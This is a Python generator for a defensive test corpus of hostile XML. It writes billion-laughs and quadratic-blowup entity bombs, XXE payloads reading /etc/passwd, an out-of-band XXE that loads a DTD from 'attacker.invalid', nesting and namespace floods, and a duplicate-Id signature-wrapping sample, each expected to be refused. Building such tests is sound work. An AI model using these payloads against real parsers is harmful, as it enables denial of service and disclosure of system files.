#!/usr/bin/env python3
"""Writes the XML attack corpus and attacks.json into this folder.

Deterministic, standard library only:  python3 generate.py
Every file stays under 2 MB. The DTD-based attacks are refused because the
parser refuses any DOCTYPE; the rest by resource limits (depth, attributes per
element, namespace declarations per document) or, for duplicate-id, by the
XML-DSig layer's ID index.
"""
import json
import os

HERE = os.path.dirname(os.path.abspath(__file__))
LIMIT = 2 * 1024 * 1024

LOL = "".join(
    '<!ENTITY lol%d "%s">\n' % (i, ("&lol%s;" % (i - 1 or "")) * 10) for i in range(1, 10)
)
LOL_DTD = '<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n' + LOL + "]>\n"


def deep(n):
    return "<a>" * n + "</a>" * n


def many_attributes(n):
    return "<r" + "".join(' a%d="%d"' % (i, i) for i in range(n)) + "/>"


def many_namespaces(total, per_element):
    elements = total // per_element
    decls = "".join(' xmlns:p%d="u"' % i for i in range(per_element))
    return "<r>" + "".join("<e%s/>" % decls for _ in range(elements)) + "</r>"


CASES = [
    ("billion-laughs-element.xml",
     '<?xml version="1.0"?>\n' + LOL_DTD + "<lolz>&lol9;</lolz>\n",
     "billion laughs: 10 levels of nested internal entities (10^9 'lol'), referenced in element content",
     "refused"),
    ("billion-laughs-attribute.xml",
     '<?xml version="1.0"?>\n' + LOL_DTD + '<lolz a="&lol9;"/>\n',
     "billion laughs referenced inside an attribute value",
     "refused"),
    ("xxe-file.xml",
     '<?xml version="1.0"?>\n<!DOCTYPE r [\n<!ENTITY x SYSTEM "file:///etc/passwd">\n]>\n<r>&x;</r>\n',
     "XXE: external general entity SYSTEM file:///etc/passwd referenced in content",
     "refused"),
    ("xxe-parameter-entity.xml",
     '<?xml version="1.0"?>\n<!DOCTYPE r [\n<!ENTITY % p SYSTEM "file:///etc/passwd">\n%p;\n]>\n<r/>\n',
     "XXE through an external parameter entity expanded in the internal subset",
     "refused"),
    ("xxe-parameter-entity-oob.xml",
     '<?xml version="1.0"?>\n<!DOCTYPE r [\n<!ENTITY % file SYSTEM "file:///etc/passwd">\n'
     '<!ENTITY % dtd SYSTEM "http://attacker.invalid/evil.dtd">\n%dtd;\n]>\n<r>&send;</r>\n',
     "out-of-band XXE pattern: parameter entities that load an external DTD (host is .invalid)",
     "refused"),
    ("doctype-plain.xml",
     '<?xml version="1.0"?>\n<!DOCTYPE r>\n<r/>\n',
     "a plain DOCTYPE with no internal subset and no entities: every DOCTYPE is refused",
     "refused"),
    ("doctype-internal-subset-no-entities.xml",
     '<!DOCTYPE r [\n<!ELEMENT r (#PCDATA)>\n<!ATTLIST r id ID #IMPLIED>\n]>\n<r id="x">t</r>\n',
     "DOCTYPE whose internal subset only declares an element and an ID attribute (ID-type smuggling)",
     "refused"),
    ("doctype-quadratic-blowup.xml",
     '<!DOCTYPE r [\n<!ENTITY a "' + "x" * 50000 + '">\n]>\n<r>' + "&a;" * 20000 + "</r>\n",
     "quadratic blowup: one 50 kB entity referenced 20,000 times (1 GB expanded)",
     "refused"),
    ("deep-nesting-10000.xml",
     deep(10000),
     "10,000 nested elements, no DTD: refused by the depth limit",
     "refused"),
    ("attributes-10000.xml",
     many_attributes(10000),
     "one element with 10,000 attributes, no DTD: refused by the attributes-per-element limit",
     "refused"),
    ("namespaces-100000.xml",
     many_namespaces(100000, 100),
     "100,000 namespace declarations spread over 1,000 sibling elements (100 each): refused by the "
     "per-document namespace-declaration limit",
     "refused"),
    ("duplicate-id.xml",
     '<doc>\n  <a Id="x">signed</a>\n  <b Id="x">substituted</b>\n</doc>\n',
     "well-formed; two elements carry the same Id value, so Reference URI=\"#x\" is ambiguous "
     "(signature wrapping): the XML-DSig layer's ID index refuses it",
     "duplicate-id"),
]


def main():
    manifest = []
    for name, text, what, expect in CASES:
        data = text.encode("utf-8")
        assert len(data) < LIMIT, (name, len(data))
        with open(os.path.join(HERE, name), "wb") as f:
            f.write(data)
        manifest.append({"file": name, "what": what, "expect": expect, "bytes": len(data)})
    with open(os.path.join(HERE, "attacks.json"), "w") as f:
        json.dump(manifest, f, indent=1)
        f.write("\n")
    for m in manifest:
        print("%-42s %9d  %s" % (m["file"], m["bytes"], m["expect"]))


if __name__ == "__main__":
    main()
